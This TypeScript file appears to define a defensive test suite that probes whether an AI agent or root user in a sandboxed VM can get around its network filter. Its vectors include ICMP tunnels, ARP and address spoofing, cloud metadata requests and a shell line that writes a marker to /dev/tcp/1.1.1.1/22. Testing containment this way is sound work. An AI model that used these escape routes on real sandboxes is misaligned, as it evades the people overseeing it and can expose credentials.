/** G1, layers 2 to 4: the agent fails at the guest's filter, root at the wire's end. */

import type { Frame, Vector } from "../vector.ts"

const BOTH = ["agent", "root"] as const
const PUBLIC = "1.1.1.1"
const DOCUMENT = "93.184.216.34"
const ICMP = 1
const TCP = 6
const UDP = 17

export const networkVectors: readonly Vector[] = [
  web("1-http-to-address", "plain HTTP to a public address, without the proxy", "http", PUBLIC),
  web("1-https-to-address", "HTTPS to a public address, without the proxy", "https", PUBLIC),
  tcp("2-tcp-ssh", 22, "claude-code#78608, #77045, #89165: an allow list that was loaded but not enforced"),
  tcp("2-tcp-smtp", 25),
  tcp("2-tcp-irc", 6667),
  tcp("2-tcp-alternative-https", 8443),
  tcp("2-tcp-git", 9418),
  tcp("2-tcp-highest", 65535),
  tcp("2-tcp-any-public-address", 4444, "microsandbox#1361: a domain rule that opened arbitrary addresses"),
  udp("3-udp-high", 4433),
  udp("3-quic", 443),
  udp("3-ntp", 123),
  udp("3-stun", 3478),
  udp("3-wireguard", 51820),
  {
    ...common("4-icmp-echo-socket", "ping from a socket of its own", ["agent"], "ABS"),
    // socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP), then SOCK_RAW
    how: {
      kind: "calls",
      calls: [
        { number: 41, args: [2, 2, ICMP] },
        { number: 41, args: [2, 3, ICMP] },
      ],
    },
    gain: "descriptor",
    seenIn: "Docker Sandboxes CVE-2026-12539: an ICMP block that was lost when the daemon restarted",
  },
  frames("4-icmp-tunnel", "data in ICMP echo requests", [
    ip(ICMP, { payloadHex: "0800000000010001", fillBytes: 512 }),
    ip(ICMP, { to: "8.8.8.8", payloadHex: "0800000000010002", fillBytes: 64 }),
  ]),
  frames("5-icmpv6-advertisement", "router advertisement, redirect and MLD report", [
    ip6(58, "ff02::1", "8600000040000000"),
    ip6(58, "ff02::2", "8900000000000000"),
    ip6(58, "ff02::16", "8f00000000000001"),
  ]),
  {
    ...common("6-ipv6-global", "TCP to a global IPv6 address", BOTH, "REF"),
    how: { kind: "tcp", host: "2606:4700:4700::1111", port: 443 },
    seenIn: "gh-aw-firewall#245, claude-code PR#81423: IPv6 unfiltered beside rules for IPv4",
  },
  {
    ...common("6-ipv6-link-local", "UDP to a link-local IPv6 address", BOTH, "REF"),
    how: { kind: "udp", host: "fe80::2", port: 5353 },
  },
  frames("6-ipv6-frames", "IPv6 packets past the kernel that has it switched off", [
    ip6(UDP, "2606:4700:4700::1111", "", 443),
    ip6(UDP, "fd00:ec2::254", "", 80),
  ]),
  frames("6-dhcpv6", "a DHCPv6 solicitation", [ip6(UDP, "ff02::1:2", "01000000", 547)]),
  ...[
    ["7-ipip", 4],
    ["7-6in4", 41],
    ["7-gre", 47],
    ["7-esp", 50],
    ["7-sctp", 132],
    ["7-igmp", 2],
  ].map(([name, protocol]) =>
    frames(String(name), `IP protocol ${protocol}`, [
      ip(Number(protocol), {}),
      ip(Number(protocol), { to: DOCUMENT }),
    ]),
  ),
  {
    ...common("8-packet-socket", "a packet socket", ["agent"], "ABS"),
    how: { kind: "calls", calls: [{ number: 41, args: [17, 3, 0x0300] }] },
    gain: "descriptor",
  },
  {
    ...common("8-raw-socket", "raw IP sockets", ["agent"], "ABS"),
    how: {
      kind: "calls",
      calls: [TCP, UDP, 255].map((protocol) => ({ number: 41, args: [2, 3, protocol] })),
    },
    gain: "descriptor",
  },
  frames("9-arp-spoof", "ARP replies that claim the gateway's and the host's address", [
    {
      layer: "ether",
      type: 0x0806,
      payloadHex: "00010800060400025254005745010a000264525400574501 0a00020f",
      bare: true,
    },
    {
      layer: "ether",
      type: 0x0806,
      payloadHex: "00010800060400025254005745010a000202525400574501 0a00020f",
      bare: true,
    },
  ]),
  frames("9-dhcp", "DHCP with data in its options", [
    ip(UDP, {
      to: "255.255.255.255",
      from: "0.0.0.0",
      port: 67,
      sourcePort: 68,
      payloadHex: "010106003903f326",
    }),
  ]),
  ...[
    ["9-mdns", "224.0.0.251", 5353],
    ["9-llmnr", "224.0.0.252", 5355],
    ["9-netbios", "10.0.2.255", 137],
    ["9-ssdp", "239.255.255.250", 1900],
  ].map(
    ([id, host, port]): Vector => ({
      ...common(String(id), `discovery by UDP ${port}`, BOTH, "REF"),
      how: { kind: "udp", host: String(host), port: Number(port) },
    }),
  ),
  frames(
    "11-spoofed-address",
    "packets with another machine's and the host's source address",
    [
      ip(UDP, { from: "10.0.2.16", port: 53 }),
      ip(TCP, { from: "10.0.2.2", port: 80 }),
      ip(TCP, { from: "10.0.2.16", to: "10.0.2.100", port: 3128 }),
    ],
    "vm0-ai/vm0#21765: a forged source address was another machine's credentials",
  ),
  frames("11-spoofed-mac", "frames from a second hardware address", [
    ip(UDP, { sourceMac: "525400aabbcc", port: 443 }),
  ]),
  frames("11-vlan", "frames with a VLAN tag", [ip(UDP, { vlan: 7, port: 443 })]),
  frames("11-ethertype", "frames of an odd EtherType", [
    { layer: "ether", type: 0x88b5, payloadHex: "", fillBytes: 40 },
    { layer: "ether", type: 0x88cc, payloadHex: "0207", fillBytes: 40 },
  ]),
  frames("11-large-frame", "a frame as large as the card takes", [ip(UDP, { port: 443, fillBytes: 1400 })]),
  frames("11-short-frame", "frames shorter than a header", [
    { layer: "ether", type: 0x0800, payloadHex: "45", bare: true },
    { layer: "ether", type: 0x0800, payloadHex: "4500", fillBytes: 4 },
  ]),
  frames("11-bad-checksum", "packets with a wrong checksum", [ip(UDP, { badChecksum: true, port: 443 })]),
  frames("12-source-route", "loose and strict source routes", [
    ip(UDP, { optionsHex: "8307040a00020200", port: 443 }),
    ip(UDP, { optionsHex: "8907040a00020200", port: 443 }),
  ]),
  frames("12-time-to-live", "packets that are to expire on the way", [
    ip(UDP, { ttl: 1, port: 33434 }),
    ip(TCP, { ttl: 255, port: 443 }),
  ]),
  {
    ...common("14-host-port", "a port of the host, by QEMU's alias for it", BOTH, "REF"),
    how: { kind: "tcp", host: "10.0.2.2", port: "{canary}" },
  },
  {
    ...common("14-host-udp", "the host by UDP", BOTH, "REF"),
    how: { kind: "udp", host: "10.0.2.2", port: "{canary}" },
  },
  web("14-host-http", "HTTP to QEMU's alias for the host", "http", "10.0.2.2"),
  proxy("14-loopback-by-proxy", "the host's loopback, asked of the proxy", "127.0.0.1:{canary}"),
  proxy("14-localhost-by-proxy", "localhost, asked of the proxy", "localhost:{canary}"),
  proxy("14-lan-by-proxy", "an address of the host's network, asked of the proxy", "192.168.0.1"),
  web("14-host-alias", "the names by which containers know their host", "https", "host.docker.internal"),
  web("15-metadata", "the cloud's metadata service", "http", "169.254.169.254", "/latest/meta-data/{m}"),
  web("15-metadata-alibaba", "another cloud's metadata service", "http", "100.100.100.200"),
  web("15-metadata-oracle", "another cloud's metadata service", "http", "192.0.0.192"),
  web("15-metadata-azure", "another cloud's metadata service", "http", "168.63.129.16"),
  web("15-metadata-name", "a metadata service by its name", "http", "metadata.google.internal"),
  proxy("15-metadata-ipv6", "a metadata service by its IPv6 address", "[fd00:ec2::254]"),
  {
    ...common("16-other-machine", "another machine's address", BOTH, "REF"),
    how: { kind: "tcp", host: "10.0.2.16", port: 3128 },
  },
  {
    ...common("18-network-namespace", "a network namespace with a wire of its own", ["root"], "GST"),
    how: {
      kind: "shell",
      script:
        "unshare -n true; ip link add v0 type veth peer name v1; ip link add br0 type bridge; ip tuntap add t0 mode tun; echo 1 > /proc/sys/net/ipv4/ip_forward; echo {m} > /dev/tcp/1.1.1.1/22",
    },
    seenIn: "cocoonstack/sandbox#26, superserve-ai/sandbox#106: a lane without policy had an open card",
  },
]

function common<From extends Vector["from"]>(
  id: string,
  title: string,
  from: From,
  expected: Vector["expected"],
) {
  return { id, group: "G1" as const, title, from, expected }
}

function tcp(id: string, port: number, seenIn?: string): Vector {
  const vector = {
    ...common(id, `TCP to a public address, port ${port}`, BOTH, "REF"),
    how: { kind: "tcp", host: PUBLIC, port } as const,
  }
  return seenIn === undefined ? vector : { ...vector, seenIn }
}

function udp(id: string, port: number): Vector {
  return {
    ...common(id, `UDP to a public address, port ${port}`, BOTH, "REF"),
    how: { kind: "udp", host: PUBLIC, port },
  }
}

function web(id: string, title: string, to: "http" | "https", host: string, path = "/{m}"): Vector {
  return { ...common(id, title, BOTH, "403"), how: { kind: "web", to, host, path } }
}

function proxy(id: string, title: string, host: string): Vector {
  return { ...common(id, title, BOTH, "403"), how: { kind: "web", to: "proxy", host } }
}

function frames(id: string, title: string, list: readonly Frame[], seenIn?: string): Vector {
  const vector = { ...common(id, title, ["root"], "REF"), how: { kind: "frames", frames: list } as const }
  return seenIn === undefined ? vector : { ...vector, seenIn }
}

function ip(protocol: number, rest: Partial<Frame>): Frame {
  return { layer: "ip", type: protocol, to: PUBLIC, ...rest }
}

function ip6(next: number, to: string, payloadHex: string, port?: number): Frame {
  return { layer: "ipv6", type: next, to, payloadHex, ...(port === undefined ? {} : { port }) }
}
